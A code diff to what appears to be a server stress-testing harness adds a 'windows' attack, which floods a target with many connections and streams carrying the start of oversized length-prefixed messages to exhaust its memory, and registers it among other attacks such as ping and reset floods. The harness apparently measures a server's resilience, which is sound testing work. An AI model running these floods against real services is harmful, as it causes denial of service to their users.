@@ -9,6 +9,7 @@ import itertools
 import json
 import os
 import shutil
+import struct
 import subprocess
 import sys
 import tempfile
@@ -130,6 +131,23 @@ def uploads(
     return {**figures, **{name: value // MEGABYTE for name, value in memories.items()}, **honest.figures()}
 
 
+def windows(victim: Victim, picture: bytes, connections: int = 200, streams: int = 100) -> Figures:
+    """Connections that fill the window of every stream that they may open with the start of a large message."""
+    before, _ = victim.vitals().memory, victim.forget_peak()
+    body = b"\0" + struct.pack(">I", 19_000_000) + bytes(2 * MEGABYTE)
+    with Honest(victim, picture) as honest, contextlib.ExitStack() as stack:
+        begun = flood.uploads(victim.port, connections, 19_000_000, 2 * MEGABYTE)
+        for upload in begun:
+            stack.enter_context(upload.connection)
+        flood.push(begun, seconds=1, quiet_s=0.1)
+        for _ in range(1, streams):
+            for upload in begun:
+                upload.begin_another(body)
+            flood.push(begun, seconds=1, quiet_s=0.05)
+        peak = victim.peak()
+    return {"peak": (peak - before) // MEGABYTE, **honest.figures()}
+
+
 def pings(victim: Victim, picture: bytes, seconds: float = 10.0, connections: int = 2) -> Figures:
     """Connections that send pings without pause and read no answer."""
     stop = threading.Event()
@@ -236,6 +254,7 @@ ATTACKS: dict[str, Callable[..., Figures]] = {
         resets,
         streams,
         uploads,
+        windows,
         pings,
         idle,
         identifier,
